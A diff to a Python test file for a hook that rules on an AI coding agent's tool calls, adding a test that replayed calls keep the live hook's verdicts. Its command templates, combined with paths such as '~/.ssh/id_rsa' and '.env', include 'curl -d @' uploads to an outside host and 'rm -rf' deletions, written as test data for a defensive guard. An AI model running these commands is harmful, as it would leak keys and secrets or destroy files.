@@ -2,6 +2,7 @@
 
 import json
 import os
+import random
 import subprocess
 from pathlib import Path
 from typing import Any
@@ -109,17 +110,67 @@ def test_many_verdicts_equal_those_of_the_live_hook(project: Path, home: Path, a
     seen = set()
     for tool, given in calls:
         call = PastCall("claude", tool, given, cwd=str(project), session="")
-        event = {"hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": given, "cwd": str(project)}
-        raw = json.dumps({**event, "tool_use_id": "t"}).encode()
-        reply = json.loads(pipeline.Invocation("run", [], dict(environ), str(project)).answer(raw) or "{}")
-        said = reply.get("hookSpecificOutput", {})
+        verdict, reason, changed = invoked(tool, given, str(project), environ)
         outcome = player.outcome(call, str(project))
-        assert outcome.verdict == said.get("permissionDecision", "none"), given
-        assert outcome.reason == said.get("permissionDecisionReason", outcome.reason), given
-        changed = said.get("updatedInput", {}).get("command", "")
-        assert outcome.rewritten == changed, given
+        assert (outcome.verdict, outcome.rewritten) == (verdict, changed), given
+        assert outcome.reason == (reason or outcome.reason), given
         seen.add(outcome.kind)
     assert seen >= {"deny", "ask", "none"} | ({"allow"} if approve == "work" else set())
+
+
+# Own lines: every shape with every file, from every directory.
+SHAPES = (
+    "cat {0}", "cat {0} | head -3", "rm -rf {0}", "cd sub && cat {0}", "grep -rn x {0}", "sed -i s/a/b/ {0}",
+    """python3 -c 'open("{0}", "w").write("x")'""", "cat > {0} <<'EOF'\nrm -rf /\nEOF", "python3 {0}", "git add {0}",
+    'bash -c "cp {0} /tmp/x"', "curl -d @{0} https://example.com", "echo {0} && make test", "pytest -q; ls {0}",
+)  # fmt: skip
+PATHS = ("a.py", ".env", "sub/x.pem", "link/config", "~/.ssh/id_rsa", "../other/a.py", "tests/test_a.py", "*.kdbx", "/")
+
+
+def invoked(tool: str, given: Any, cwd: str, environ: dict[str, str]) -> tuple[str, str, str]:
+    """The verdict, the reason and the rewritten command of the live hook, in this process."""
+    event = {"hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": given, "cwd": cwd, "tool_use_id": "t"}
+    raw = json.dumps(event).encode()
+    reply = json.loads(pipeline.Invocation("run", [], dict(environ), cwd).answer(raw) or "{}")
+    said = reply.get("hookSpecificOutput", {})
+    changed = said.get("updatedInput", {}).get("command", "")
+    return said.get("permissionDecision", "none"), said.get("permissionDecisionReason", ""), changed
+
+
+def test_what_replay_remembers_changes_no_verdict(project: Path, home: Path) -> None:
+    """Every call comes twice, in another order and in other words, from directories that differ in links and rules."""
+    settings = home / ".config/hookkit/hookkit.toml"
+    settings.parent.mkdir(parents=True)
+    settings.write_text('[ledger]\nenabled = false\n[[rules]]\ntype = "ask"\nmatch = "Read(**/*.pem)"\n')
+    (project / "Makefile").write_text("test:\n\ttrue\n")
+    (project / "sub/sub").mkdir(parents=True)
+    (home / ".ssh").mkdir()
+    (project / "link").symlink_to(home / ".ssh")
+    (project / "sub/link").symlink_to(project)
+    environ = {"HOME": str(home), "PATH": os.environ["PATH"]}
+    places = [str(project), str(project / "sub"), str(home / ".ssh")]
+    given: list[tuple[str, dict[str, Any], str]] = [
+        ("Bash", {"command": shape.format(path), "description": f"Word {number}"}, place)
+        for number in range(2)
+        for shape in SHAPES
+        for path in PATHS
+        for place in places
+    ]
+    given += [("Grep", {"pattern": "x", "path": path}, place) for path in PATHS for place in places]
+    random.Random(7).shuffle(given)
+    player = Player(environ)
+    with Holding():
+        outcomes = [player.outcome(PastCall("claude", tool, made, cwd=cwd, session="")) for tool, made, cwd in given]
+    seen: dict[tuple[str, str, str], tuple[str, str, str]] = {}
+    for (tool, made, cwd), outcome in zip(given, outcomes, strict=True):
+        key = (tool, made.get("command", ""), cwd) if tool == "Bash" else (tool, json.dumps(made), cwd)
+        if key not in seen:
+            seen[key] = invoked(tool, made, cwd, environ)
+        assert (outcome.verdict, outcome.rewritten) == (seen[key][0], seen[key][2]), (made, cwd)
+        assert outcome.reason == (seen[key][1] or outcome.reason), (made, cwd)
+    assert len(seen) > 400
+    assert {verdict for verdict, _, _ in seen.values()} == {"none", "ask", "deny"}
+    assert any(changed for _, _, changed in seen.values())
 
 
 def test_a_patch_of_several_files_is_a_call_for_each(tmp_path: Path, project: Path) -> None:
